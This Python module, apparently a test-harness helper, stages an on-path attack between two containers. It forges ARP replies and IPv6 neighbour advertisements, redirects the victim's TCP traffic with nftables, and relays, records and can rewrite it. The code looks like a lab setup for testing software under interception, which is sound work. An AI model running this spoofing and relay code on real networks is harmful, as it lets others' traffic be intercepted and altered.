"""An attacker between two pods: by forged ARP answers (IPv6: neighbour advertisements) one sends him what is for the other."""

import contextlib
import socket
import struct
import threading

import actors
from pods import wait_until

_LISTEN_PORT = 6666
_ETHERTYPE_ARP, _ARP_REPLY = 0x0806, 2
_ETHERTYPE_IPV6, _ICMPV6, _ADVERTISEMENT, _OVERRIDE, _LINK_ADDRESS = 0x86dd, 58, 136, 0x20000000, 2
_HOP_LIMIT = 255  # RFC 4861, 7.1.2: proves that a router has not sent it on


def _mac(pod):
    return pod.run(["cat", "/sys/class/net/eth0/address"]).stdout.strip()


def _packed(mac):
    return bytes.fromhex(mac.replace(":", ""))


def _checksum(data):
    """RFC 1071."""
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xffff) + (total >> 16)
    return ~total & 0xffff


def _arp_reply(own, claimed, caller, caller_address):
    return _ETHERTYPE_ARP, struct.pack("!HHBBH", 1, 0x0800, 6, 4, _ARP_REPLY) + own + socket.inet_aton(claimed) + caller \
        + socket.inet_aton(caller_address)


def _advertisement(own, claimed, caller_address):
    """RFC 4861, 4.4."""
    source, target = (socket.inet_pton(socket.AF_INET6, address) for address in (claimed, caller_address))
    body = struct.pack("!I", _OVERRIDE) + source + struct.pack("!BB", _LINK_ADDRESS, 1) + own
    size = 4 + len(body)
    pseudo = source + target + struct.pack("!II", size, _ICMPV6)
    checksum = _checksum(pseudo + struct.pack("!BBH", _ADVERTISEMENT, 0, 0) + body)
    head = struct.pack("!IHBB", 6 << 28, size, _ICMPV6, _HOP_LIMIT) + source + target
    return _ETHERTYPE_IPV6, head + struct.pack("!BBH", _ADVERTISEMENT, 0, checksum) + body


class OnPath:
    """
    Use as a context manager. What `caller` sends to the address and port is accepted in the attacker's pod and handled by
    behave(connection); `rules` are more nftables rules for what is passing, each a text.
    """

    def __init__(self, pod, caller, address, port, behave, rules=()):
        self._pod = pod
        self._caller = caller
        self._address = address
        self._family = socket.AF_INET6 if ":" in address else socket.AF_INET
        self._table = "ip6" if ":" in address else "ip"
        self._rules = [f"{self._table} daddr {address} tcp dport {port} redirect to :{_LISTEN_PORT}", *rules]
        self._server = actors.Server(pod.listen(self._family, _LISTEN_PORT), behave)

    def __enter__(self):
        self._server.__enter__()
        self._pod.run(["nft", "-f", "-"], stdin=f"table {self._table} onpath {{ chain taken {{\ntype nat hook prerouting priority -100\n"
                      + "\n".join(self._rules) + "\n}\n}\n")
        self._lie()
        return self

    def __exit__(self, *_):
        self._pod.run(["nft", "delete", "table", self._table, "onpath"])
        self._caller.run(["ip", "neigh", "flush", "dev", "eth0"])
        self._server.__exit__()

    def _lie(self):
        """Tells the caller that the address is the attacker's, until it is believed."""
        own, caller = _mac(self._pod), _mac(self._caller)
        if self._family == socket.AF_INET:
            kind, lie = _arp_reply(_packed(own), self._address, _packed(caller), self._caller.ipv4)
        else:
            kind, lie = _advertisement(_packed(own), self._address, self._caller.ipv6)
        frame = _packed(caller) + _packed(own) + struct.pack("!H", kind) + lie

        def believed():
            with self._caller.open_socket(self._family, socket.SOCK_DGRAM) as asks:
                asks.sendto(b"", (self._address, 9))  # so that it has an opinion that can be changed
            wire.send(frame)
            return own in self._caller.run(["ip", "neigh", "show", self._address]).stdout

        with self._pod.entered():
            wire = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
        with wire:
            wire.bind(("eth0", kind))
            wait_until(believed, f"{self._caller.name} to believe the attacker")


class Relay:
    """A behave(): carries bytes on to the real server. Attributes: `sent` and `answered`, what has passed, both ways."""

    def __init__(self, pod, address, port, change_sent=lambda data: data, change_answered=lambda data: data):
        self._pod = pod
        self._server = (address, port)
        self._changes = (change_sent, change_answered)
        self.sent = bytearray()
        self.answered = bytearray()

    def __call__(self, connection):
        with self._pod.connect(*self._server, timeout_s=60) as onward:
            back = threading.Thread(target=self._carry, args=(onward, connection, self.answered, self._changes[1]))
            back.start()
            self._carry(connection, onward, self.sent, self._changes[0])
            back.join()

    def _carry(self, source, destination, record, change):
        with contextlib.suppress(OSError):
            while data := source.recv(actors.CHUNK):
                record += data
                destination.sendall(change(data))
        for end in (source, destination):
            with contextlib.suppress(OSError):
                end.shutdown(socket.SHUT_RDWR)
